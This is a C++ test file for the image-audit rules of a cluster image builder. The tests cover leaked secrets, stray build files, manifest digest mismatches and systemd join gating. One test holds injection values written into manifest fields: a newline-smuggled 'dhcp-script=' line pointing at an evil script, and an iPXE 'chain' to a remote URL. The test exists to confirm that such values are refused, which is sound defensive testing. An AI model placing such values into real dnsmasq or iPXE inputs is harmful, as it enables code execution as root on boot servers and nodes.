// builder/audit/: the rules on root filesystem entries, and whole image directories, clean
// and dirty, written as `railyard build` lays them out.
#include <doctest/doctest.h>

#include <sys/stat.h>

#include <filesystem>
#include <fstream>

#include "audit/image_audit.h"
#include "io/disk_source.h"
#include "join_gate.h"
#include "recipe_loader.h"
#include "audit/rootfs_rules.h"
#include "builder/audit_test_image.h"

using namespace railyard;
using namespace railyard::test;
namespace fs = std::filesystem;

namespace {

std::vector<std::string> lines(const std::string& dir, const std::vector<Finding>& findings) {
  std::vector<std::string> out;
  for (const auto& f : findings) out.push_back(format_finding(dir, f));
  return out;
}

std::vector<std::string> audit_lines(const std::string& dir) {
  auto r = audit_image(dir);
  REQUIRE_MESSAGE(r.ok(), r.error());
  return lines(dir, r->findings);
}

RootfsEntry file(const std::string& path, std::uint64_t size = 0, unsigned mode = 0644) {
  return {path, RootfsEntry::Type::file, mode, 0, 0, size};
}

RootfsEntry dir(const std::string& path, unsigned mode = 0755) {
  return {path, RootfsEntry::Type::directory, mode, 0, 0, 0};
}

}  // namespace

TEST_CASE("hygiene patterns match component by component") {
  CHECK(hygiene_pattern_matches("/etc/ssh/ssh_host_*", "/etc/ssh/ssh_host_ed25519_key"));
  CHECK_FALSE(hygiene_pattern_matches("/etc/ssh/ssh_host_*", "/etc/ssh/sshd_config"));
  CHECK(hygiene_pattern_matches("/tmp/*", "/tmp/build.log"));
  CHECK_FALSE(hygiene_pattern_matches("/tmp/*", "/tmp/a/b"));  // * stays within one component
  CHECK_FALSE(hygiene_pattern_matches("/tmp/*", "/tmp"));
  CHECK(hygiene_pattern_matches("/var/cache/apt/*.bin", "/var/cache/apt/pkgcache.bin"));
  CHECK(hygiene_pattern_matches("/etc/machine-id", "/etc/machine-id"));
}

TEST_CASE("each hygiene rule, read as what must not be in an image") {
  RootfsRules rules;
  rules.add("r", dir("/etc"));
  rules.add("r", file("/etc/machine-id", 33));
  rules.add("r", file("/etc/ssh/ssh_host_rsa_key", 2000, 0600));
  rules.add("r", file("/etc/ssh/sshd_config", 100));
  rules.add("r", file("/etc/nvme/hostnqn", 60));
  rules.add("r", file("/etc/munge/munge.key", 1024, 0400));
  rules.add("r", file("/etc/nvme/hostid", 37));
  rules.add("r", file("/etc/hostname", 9));
  rules.add("r", file("/etc/resolv.conf", 30));
  rules.add("r", dir("/var/lib/apt/lists"));
  rules.add("r", dir("/var/lib/apt/lists/partial"));
  rules.add("r", file("/var/lib/apt/lists/partial/x_Packages", 5));  // below a reported directory: not again
  rules.add("r", file("/var/cache/apt/pkgcache.bin", 500));
  rules.add("r", dir("/var/log/apt"));
  rules.add("r", file("/var/log/apt/history.log", 10));
  rules.add("r", file("/var/log/lastlog", 0));
  rules.add("r", file("/tmp/a/b", 1));  // no entry for /tmp/a: reported at the path the rule names
  rules.add("r", dir("/tmp", 01777));
  rules.add("r", file("/etc/railyard/node.toml", 50));
  rules.add("r", file("/etc/railyard/recipe.toml", 50));
  rules.add("r", dir("/etc/systemd/system/timers.target.wants"));
  for (const char* timer : {"apt-daily", "apt-daily-upgrade", "e2scrub_all", "fstrim", "logrotate"})
    rules.add("r", {std::string("/etc/systemd/system/timers.target.wants/") + timer + ".timer",
                    RootfsEntry::Type::symlink, 0777, 0, 0, 0});
  rules.add("r", dir("/etc/systemd/system/multi-user.target.wants"));
  rules.add("r", {"/etc/systemd/system/multi-user.target.wants/e2scrub_reap.service", RootfsEntry::Type::symlink, 0777,
                  0, 0, 0});
  CHECK(
      lines("out/x", rules.findings()) ==
      std::vector<std::string>{
          "out/x/r: /etc/hostname: present (the build host's name; nodes get theirs from the node overlay)",
          "out/x/r: /etc/machine-id: not empty (33 bytes) (systemd generates one per node at boot when it is empty)",
          "out/x/r: /etc/munge/munge.key: present (the cluster's munge key (munge makes one when installed): "
          "whoever holds it can act as any user of the cluster; it is delivered per cluster, never in a shared image)",
          "out/x/r: /etc/nvme/hostid: present (nvme-cli's install writes a random one every node would share)",
          "out/x/r: /etc/nvme/hostnqn: present (likewise: NVMe-oF targets tell hosts apart by it)",
          "out/x/r: /etc/railyard/node.toml: present (a node's identity belongs in its own overlay, not in the image "
          "all nodes boot)",
          "out/x/r: /etc/resolv.conf: present (the build host's resolvers)",
          "out/x/r: /etc/ssh/ssh_host_rsa_key: present (host keys are generated per node at first boot)",
          "out/x/r: /etc/systemd/system/multi-user.target.wants/e2scrub_reap.service: present (removes ext4 scrub "
          "snapshots of volumes a stateless node does not have)",
          "out/x/r: /etc/systemd/system/timers.target.wants/apt-daily-upgrade.timer: present (upgrades packages in a "
          "root "
          "that the next boot discards)",
          "out/x/r: /etc/systemd/system/timers.target.wants/apt-daily.timer: present (refreshes package lists on a "
          "node that never installs a package)",
          "out/x/r: /etc/systemd/system/timers.target.wants/e2scrub_all.timer: present (scrubs ext4 volumes a "
          "stateless node does not have)",
          "out/x/r: /etc/systemd/system/timers.target.wants/fstrim.timer: present (trims filesystems a stateless "
          "node does not have)",
          "out/x/r: /tmp/a: present (leftovers of the build)",
          "out/x/r: /var/cache/apt/pkgcache.bin: present (apt's caches, rebuilt on demand)",
          "out/x/r: /var/lib/apt/lists/partial: present (package indexes: large, and they date the build)",
          "out/x/r: /var/log/apt/history.log: a file below /var/log (logs of the build, with its timestamps)",
          "out/x/r: /var/log/lastlog: a file below /var/log (logs of the build, with its timestamps)",
      });
}

TEST_CASE("a later part replaces an entry of an earlier one, as the kernel unpacks them") {
  RootfsRules rules;
  rules.add("rootfs-00.cpio.zst", file("/etc/machine-id", 33));
  rules.add("rootfs-01.cpio.zst", file("/etc/machine-id", 0));
  rules.add("rootfs-00.cpio.zst", file("/etc/motd", 10, 0666));
  CHECK(lines("d", rules.findings()) ==
        std::vector<std::string>{"d/rootfs-00.cpio.zst: /etc/motd: writable by every user (mode 0666) (any process on "
                                 "any node can change it)"});
}

TEST_CASE("owners must be accounts of the image; world-writable only with the sticky bit") {
  RootfsRules rules;
  rules.set_passwd("root:x:0:0:root:/root:/bin/bash\n_rdma:x:100:65534::/nonexistent:/usr/sbin/nologin\nbroken line\n");
  rules.set_group("root:x:0:\nnogroup:x:65534:\n");
  rules.add("r", {"/var/lib/rdma", RootfsEntry::Type::directory, 0750, 100, 65534, 0});
  rules.add("r", {"/home/builder/.cache", RootfsEntry::Type::directory, 0700, 1000, 1000, 0});
  rules.add("r", dir("/tmp", 01777));
  rules.add("r", dir("/srv/drop", 0777));
  rules.add("r", {"/usr/bin/x", RootfsEntry::Type::symlink, 0777, 0, 0, 0});
  CHECK(lines("d", rules.findings()) ==
        std::vector<std::string>{
            "d/r: /home/builder/.cache: owned by uid 1000, which is not in the image's /etc/passwd (a build host's "
            "account leaked in; on a node it is whoever gets that id)",
            "d/r: /home/builder/.cache: owned by gid 1000, which is not in the image's /etc/group (a build host's "
            "account leaked in; on a node it is whoever gets that id)",
            "d/r: /srv/drop: writable by every user (mode 0777) (any process on any node can change it)",
        });
  RootfsRules without;
  without.add("r", {"/opt/x", RootfsEntry::Type::file, 0644, 5, 0, 1});
  CHECK(lines("d", without.findings()) ==
        std::vector<std::string>{"d/r: /opt/x: owned by uid 5, which cannot be checked: no /etc/passwd (a build host's "
                                 "account leaked in; on a node it is whoever gets that id)"});
}

TEST_CASE("a clean image has no findings") {
  TempDir tmp;
  make_test_image(tmp, "img");
  CHECK(audit_lines(tmp / "img").empty());
  auto r = audit_image(tmp / "img");
  CHECK(r->artifacts == 3);
  CHECK(r->entries == clean_rootfs().size());
}

TEST_CASE("a lab stand-in is named, never silently carried") {
  TempDir tmp;
  TestImageOptions lab;
  auto rootfs = clean_rootfs();
  rootfs.push_back({"usr/lib/modules/6.1.0-28-amd64/updates/dkms/railyard_lab_qos.ko", "ELF", 0100644});
  lab.parts = {rootfs};
  lab.extra_drivers = {{"railyard-lab-qos", "1.0", "source", {}, {"railyard_lab_qos"}, {}, {"dcb"}}};
  make_test_image(tmp, "lab", lab);
  auto r = audit_image(tmp / "lab");
  REQUIRE(r.ok());
  CHECK(r->findings.empty());  // declared: what its recipe asked for
  REQUIRE(r->lab_stand_ins.size() == 1);
  CHECK(r->lab_stand_ins[0].name == "railyard-lab-qos");
  CHECK(r->lab_stand_ins[0].emulates == std::vector<std::string>{"dcb"});
  CHECK(r->lab_stand_ins[0].files ==
        std::vector<std::string>{"/usr/lib/modules/6.1.0-28-amd64/updates/dkms/railyard_lab_qos.ko"});

  TestImageOptions hidden;
  hidden.parts = {rootfs};
  make_test_image(tmp, "hidden", hidden);
  auto h = audit_image(tmp / "hidden");
  REQUIRE(h.ok());
  REQUIRE(h->findings.size() == 1);
  CHECK(h->findings[0].path == "/usr/lib/modules/6.1.0-28-amd64/updates/dkms/railyard_lab_qos.ko");
  CHECK(h->findings[0].problem == "the lab's DCB stand-in module, which no driver bundle of manifest.json declares");
}

TEST_CASE("an image packed by the cpio writer from a tree is clean") {
  TempDir tmp;
  tmp.write("tree/etc/machine-id", "");
  tmp.write("tree/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n");
  tmp.write("tree/usr/bin/tool", "#!/bin/sh\n", 0755);
  fs::create_directories(tmp / "tree/tmp");
  ::chmod((tmp / "tree/tmp").c_str(), 01777);
  make_test_image(tmp, "img");
  REQUIRE(write_cpio_zstd(tmp / "tree", tmp / "img/rootfs.cpio.zst", {}).ok());
  // Re-list the archive with its new digest, as the pack stage would.
  auto m = read_image_manifest(tmp / "img/manifest.json");
  REQUIRE(m.ok());
  OpenSslHasher hasher;
  for (auto& a : m->artifacts)
    if (a.path == "rootfs.cpio.zst") {
      a.sha256 = *hasher.sha256_file(tmp / "img/rootfs.cpio.zst");
      a.size = fs::file_size(tmp / "img/rootfs.cpio.zst");
    }
  tmp.write("img/manifest.json", render_image_manifest(*m));
  CHECK(audit_lines(tmp / "img").empty());
  CHECK(audit_image(tmp / "img")->entries == 7);  // etc, etc/machine-id, etc/passwd, tmp, usr, usr/bin, usr/bin/tool
}

TEST_CASE("a dirty image: artifacts that differ from the manifest, and a root filesystem that leaks") {
  TempDir tmp;
  TestImageOptions opt;
  auto second = std::vector<ArchiveEntry>{
      {"etc/ssh/ssh_host_ed25519_key", "secret", 0100600},
      {"etc/machine-id", "0123456789abcdef0123456789abcdef\n", 0100444},
      {"var/lib/apt/lists/deb_dists_bookworm_InRelease", "x", 0100644},
      {"home/builder/notes", "hi", 0100644, 1000, 1000},
  };
  opt.parts = {clean_rootfs(), second};
  make_test_image(tmp, "img", opt);
  tmp.write("img/vmlinuz", "MZ");                              // truncated
  tmp.write("img/rootfs-02.cpio.zst", "from an older build");  // listed nowhere
  std::string ipxe = read_all(tmp / "img/boot.ipxe");
  ipxe[0] = '!';
  tmp.write("img/boot.ipxe", ipxe);  // same size, other content
  std::string d = tmp / "img";
  auto got = audit_lines(d);
  std::string boot_sha = *OpenSslHasher().sha256_file(d + "/boot.ipxe");
  auto m = read_image_manifest(d + "/manifest.json");
  CHECK(got == std::vector<std::string>{
                   d + "/vmlinuz: size 2 bytes, manifest.json says " + std::to_string(m->artifact("vmlinuz")->size) +
                       " (truncated or replaced after the build)",
                   d + "/boot.ipxe: sha256 " + boot_sha + ", manifest.json says " + m->artifact("boot.ipxe")->sha256 +
                       " (changed after the build)",
                   d + "/rootfs-02.cpio.zst: not listed in manifest.json (no digest vouches for it; left over from "
                       "another build?)",
                   d + "/rootfs-01.cpio.zst: /etc/machine-id: not empty (33 bytes) (systemd generates one per node at "
                       "boot when it is empty)",
                   d + "/rootfs-01.cpio.zst: /etc/ssh/ssh_host_ed25519_key: present (host keys are generated per node "
                       "at first boot)",
                   d + "/rootfs-01.cpio.zst: /home/builder/notes: owned by uid 1000, which is not in the image's "
                       "/etc/passwd (a build host's account leaked in; on a node it is whoever gets that id)",
                   d + "/rootfs-01.cpio.zst: /home/builder/notes: owned by gid 1000, which is not in the image's "
                       "/etc/group (a build host's account leaked in; on a node it is whoever gets that id)",
                   d + "/rootfs-01.cpio.zst: /var/lib/apt/lists/deb_dists_bookworm_InRelease: present (package "
                       "indexes: large, and they date the build)",
               });
}

TEST_CASE("missing parts, broken archives and other formats are findings") {
  TempDir tmp;
  make_test_image(tmp, "img");
  std::string d = tmp / "img";
  std::string whole = read_all(d + "/rootfs.cpio.zst");
  tmp.write("img/rootfs.cpio.zst", whole.substr(0, whole.size() / 2));
  auto got = audit_lines(d);
  REQUIRE(got.size() == 2);
  CHECK(got[0].rfind(d + "/rootfs.cpio.zst: size ", 0) == 0);
  CHECK(got[1].rfind(d + "/rootfs.cpio.zst: unreadable after ", 0) == 0);
  CHECK(got[1].find("(the kernel would stop unpacking there)") != std::string::npos);

  tmp.write("img/rootfs.cpio.zst", "");
  CHECK(audit_lines(d) ==
        std::vector<std::string>{d + "/rootfs.cpio.zst: size 0 bytes, manifest.json says " +
                                     std::to_string(whole.size()) + " (truncated or replaced after the build)",
                                 d + "/rootfs.cpio.zst: unreadable after 0 entries: Unrecognized archive format (the "
                                     "kernel would stop unpacking there)"});

  fs::remove(d + "/rootfs.cpio.zst");
  CHECK(audit_lines(d) == std::vector<std::string>{d + "/rootfs.cpio.zst: missing (listed in manifest.json)"});

  // A gzip cpio boots too, but is not what the build makes.
  archive* a = archive_write_new();
  archive_write_set_format_cpio_newc(a);
  archive_write_add_filter_gzip(a);
  REQUIRE(archive_write_open_filename(a, (d + "/rootfs.cpio.zst").c_str()) == ARCHIVE_OK);
  archive_entry* e = archive_entry_new();
  archive_entry_set_pathname(e, "etc");
  archive_entry_set_mode(e, 0040755);
  archive_entry_set_size(e, 0);
  REQUIRE(archive_write_header(a, e) == ARCHIVE_OK);
  archive_entry_free(e);
  archive_write_close(a);
  archive_write_free(a);
  got = audit_lines(d);
  REQUIRE(got.size() == 2);  // its size differs too
  CHECK(got[1] == d + "/rootfs.cpio.zst: is ASCII cpio (SVR4 with no CRC) compressed with gzip (images are "
                      "zstd-compressed newc cpio, "
                      "the initramfs format the kernel unpacks)");
}

TEST_CASE("bad input: no directory, no manifest, an invalid manifest") {
  TempDir tmp;
  auto r = audit_image(tmp / "nothing");
  REQUIRE_FALSE(r.ok());
  CHECK(r.error() == tmp / "nothing" + ": not a directory (give the image directory `railyard build` wrote)");
  fs::create_directories(tmp / "empty");
  r = audit_image(tmp / "empty");
  REQUIRE_FALSE(r.ok());
  CHECK(r.error() == tmp / "empty/manifest.json" +
                         ": cannot be read: No such file or directory (is it an image directory's manifest.json?)");
  tmp.write("bad/manifest.json", "{\"schema\": 1}");
  r = audit_image(tmp / "bad");
  REQUIRE_FALSE(r.ok());
  CHECK(r.error() == tmp / "bad/manifest.json" + ": railyard_version: missing");
}

TEST_CASE("a manifest whose values would inject lines into dnsmasq or iPXE is refused, by audit and pxe alike") {
  TempDir tmp;
  auto m = make_test_image(tmp, "img");
  std::string path = tmp / "img/manifest.json";
  auto with = [&](const std::string& from, const std::string& to) {
    std::string text = read_all(path);
    auto at = text.find(from);
    REQUIRE(at != std::string::npos);
    tmp.write("evil/manifest.json", text.replace(at, from.size(), to));
    return read_image_manifest(tmp / "evil/manifest.json");
  };
  // "qemu-virt\ndhcp-script=/srv/evil.sh\n#": a dhcp-script= line dnsmasq would run as root.
  auto name = with("\"name\": \"" + m.recipe_name + "\"", "\"name\": \"qemu-virt\\ndhcp-script=/srv/evil.sh\\n#\"");
  REQUIRE_FALSE(name.ok());
  CHECK(name.error() ==
        tmp / "evil/manifest.json" +
            ": recipe.name: 'qemu-virt\\x0adhcp-script=/srv/evil.sh\\x0a#' holds a control character (\\x0a); "
            "no manifest value may");
  auto kernel = with("\"version\": \"" + m.kernel_version + "\"", "\"version\": \"6.1\\nchain http://10.0.2.2/x\"");
  REQUIRE_FALSE(kernel.ok());
  CHECK(kernel.error().find(": kernel.version: '6.1\\x0achain http://10.0.2.2/x' holds a control character") !=
        std::string::npos);
  auto dotted = with("\"name\": \"" + m.recipe_name + "\"", "\"name\": \"..\"");
  REQUIRE_FALSE(dotted.ok());
  CHECK(dotted.error().find(": recipe.name: '..' starts with '.'") != std::string::npos);
  // audit does not call such an image clean: it cannot read its manifest.
  auto audited = audit_image(tmp / "evil");
  CHECK_FALSE(audited.ok());
}

namespace {

// The lab recipe as an image carries it (resolved), joining with `units`.
std::string image_recipe(const std::vector<std::string>& units) {
  DiskSource disk;
  Diagnostics diags;
  auto lr = load_recipe(disk, std::string(RAILYARD_SOURCE_DIR) + "/recipes/qemu-virt.toml", RecipeOptions{}, diags);
  REQUIRE(lr);
  lr->recipe.join.units = units;
  return render_recipe_toml(lr->recipe);
}

std::vector<ArchiveEntry> gated_rootfs(const std::vector<std::string>& units) {
  auto rootfs = clean_rootfs();
  rootfs.push_back({"etc/railyard/recipe.toml", image_recipe(units)});
  rootfs.push_back({"etc/systemd", "", 0040755});
  rootfs.push_back({"etc/systemd/system", "", 0040755});
  rootfs.push_back({"usr/lib/systemd/system", "", 0040755});
  for (const auto& u : units) {
    rootfs.push_back({"usr/lib/systemd/system/" + u, "[Service]\nExecStart=/usr/sbin/" + u + "\n"});
    rootfs.push_back({"etc/systemd/system/" + u + ".d", "", 0040755});
    rootfs.push_back({join_gate_path(u).substr(1), join_gate_text(u)});
  }
  return rootfs;
}

}  // namespace

TEST_CASE("join gate: an image whose join units are all gated is clean, and audit says it checked them") {
  TempDir tmp;
  TestImageOptions opt;
  opt.parts = {gated_rootfs({"slurmd.service", "kubelet.service"})};
  make_test_image(tmp, "img", opt);
  auto r = audit_image(tmp / "img");
  REQUIRE(r.ok());
  CHECK(lines(tmp / "img", r->findings).empty());
  CHECK(r->join_units == std::vector<std::string>{"slurmd.service", "kubelet.service"});
}

TEST_CASE("join gate: audit fails an image whose join unit lacks the gate, or whose unit is not there") {
  TempDir tmp;
  TestImageOptions opt;
  auto rootfs = gated_rootfs({"slurmd.service"});
  std::erase_if(rootfs, [](const ArchiveEntry& e) { return e.path.ends_with("99-railyard-gate.conf"); });
  rootfs.push_back(
      {"etc/railyard/recipe.toml", image_recipe({"slurmd.service", "kubelet.service"})});  // a later entry wins
  opt.parts = {rootfs};
  make_test_image(tmp, "img", opt);
  std::string d = tmp / "img";
  CHECK(audit_lines(d) ==
        std::vector<std::string>{
            d + "/rootfs.cpio.zst: /etc/systemd/system/slurmd.service.d/99-railyard-gate.conf: missing: join unit "
                "slurmd.service is not gated (without it slurmd.service starts at boot whether or not the self-test "
                "passed; railyard build writes it)",
            d + "/rootfs.cpio.zst: /etc/railyard/recipe.toml: join unit kubelet.service is in no unit directory of "
                "the image (the agent could not start it after a pass: the node would never join)",
            d + "/rootfs.cpio.zst: /etc/systemd/system/kubelet.service.d/99-railyard-gate.conf: missing: join unit "
                "kubelet.service is not gated (without it kubelet.service starts at boot whether or not the self-test "
                "passed; railyard build writes it)",
        });
}

TEST_CASE("join gate: a gate edited away, or undone by a drop-in applied after it, is a finding") {
  TempDir tmp;
  TestImageOptions edited;
  auto rootfs = gated_rootfs({"slurmd.service"});
  // A second part replaces the gate with a drop-in that only orders the unit.
  edited.parts = {rootfs, {{join_gate_path("slurmd.service").substr(1), "[Unit]\nAfter=railyard-firstboot.service\n"}}};
  make_test_image(tmp, "edited", edited);
  std::string d = tmp / "edited";
  CHECK(audit_lines(d) == std::vector<std::string>{
                              d + "/rootfs-01.cpio.zst: /etc/systemd/system/slurmd.service.d/99-railyard-gate.conf: "
                                  "does not gate slurmd.service: no ConditionPathExists=/run/railyard/joined in [Unit] "
                                  "(slurmd.service would start at boot whether or not the self-test passed)",
                          });

  TestImageOptions undone;
  rootfs.push_back({"usr/lib/systemd/system/slurmd.service.d", "", 0040755});
  rootfs.push_back({"usr/lib/systemd/system/slurmd.service.d/zz-site.conf", "[Unit]\nConditionPathExists=\n"});
  rootfs.push_back({"usr/lib/systemd/system/slurmd.service.d/10-vendor.conf", "[Unit]\nConditionPathExists=\n"});
  undone.parts = {rootfs};
  make_test_image(tmp, "undone", undone);
  d = tmp / "undone";
  // The vendor's reset comes before the gate, which sets it again: only the later one undoes it.
  CHECK(audit_lines(d) == std::vector<std::string>{
                              d + "/rootfs.cpio.zst: /usr/lib/systemd/system/slurmd.service.d/zz-site.conf: resets "
                                  "ConditionPathExists= after 99-railyard-gate.conf (it undoes the join gate: "
                                  "slurmd.service would start whether or not the self-test passed)",
                          });
}

TEST_CASE("join gate: an image without a recipe has no join units to check; one with a broken recipe is a finding") {
  TempDir tmp;
  make_test_image(tmp, "bare");
  auto r = audit_image(tmp / "bare");
  REQUIRE(r.ok());
  CHECK(r->join_units.empty());

  TestImageOptions broken;
  auto rootfs = clean_rootfs();
  rootfs.push_back({"etc/railyard/recipe.toml", "schema = 1\n[join]\nunits = [\"../x.service\"]\n"});
  broken.parts = {rootfs};
  make_test_image(tmp, "broken", broken);
  auto lines_ = audit_lines(tmp / "broken");
  REQUIRE(lines_.size() == 1);
  CHECK(lines_[0].find("/etc/railyard/recipe.toml: is no recipe railyard reads: ") != std::string::npos);
}

TEST_CASE("the audit flags a generator a root in RAM never needs that the image leaves unmasked") {
  auto link = [](const std::string& path, const std::string& target) {
    RootfsEntry e{path, RootfsEntry::Type::symlink, 0777, 0, 0, 0};
    e.link = target;
    return e;
  };
  auto gen = [](const std::string& name) {
    return RootfsEntry{"/usr/lib/systemd/system-generators/" + name, RootfsEntry::Type::file, 0755, 0, 0, 100};
  };
  RootfsRules rules;
  for (const char* g : {"systemd-gpt-auto-generator", "systemd-hibernate-resume-generator",
                        "systemd-cryptsetup-generator", "systemd-integritysetup-generator", "systemd-getty-generator"})
    rules.add("rootfs.cpio.zst", gen(g));
  rules.add("rootfs.cpio.zst", link("/etc/systemd/system-generators/systemd-gpt-auto-generator", "/dev/null"));
  rules.add("rootfs.cpio.zst", link("/etc/systemd/system-generators/systemd-hibernate-resume-generator", "/tmp/x"));
  rules.add("rootfs.cpio.zst", RootfsEntry{"/etc/crypttab", RootfsEntry::Type::file, 0644, 0, 0, 40});
  // A later part masks integritysetup's.
  rules.add("overlay.cpio", link("/etc/systemd/system-generators/systemd-integritysetup-generator", "/dev/null"));
  CHECK(lines("out/x", rules.findings()) ==
        std::vector<std::string>{
            "out/x/rootfs.cpio.zst: /etc/systemd/system-generators/systemd-hibernate-resume-generator: not a link to "
            "/dev/null: /usr/lib/systemd/system-generators/systemd-hibernate-resume-generator runs at every boot "
            "(resumes from a hibernation image: a root unpacked afresh at every boot never resumes)",
        });
}

TEST_CASE("the audit flags a unit for a root on a disk that the image leaves unmasked") {
  RootfsRules rules;
  for (const char* u : {"systemd-remount-fs.service", "systemd-repart.service"})
    rules.add("rootfs.cpio.zst",
              RootfsEntry{std::string("/usr/lib/systemd/system/") + u, RootfsEntry::Type::file, 0644, 0, 0, 100});
  RootfsEntry masked{"/etc/systemd/system/systemd-repart.service", RootfsEntry::Type::symlink, 0777, 0, 0, 0};
  masked.link = "/dev/null";
  rules.add("rootfs.cpio.zst", masked);
  CHECK(lines("out/x", rules.findings()) ==
        std::vector<std::string>{
            "out/x/rootfs.cpio.zst: /etc/systemd/system/systemd-remount-fs.service: absent: "
            "/usr/lib/systemd/system/systemd-remount-fs.service runs at every boot (applies /etc/fstab's options to "
            "the root file system: this root is unpacked into RAM, from no disk)",
        });
}
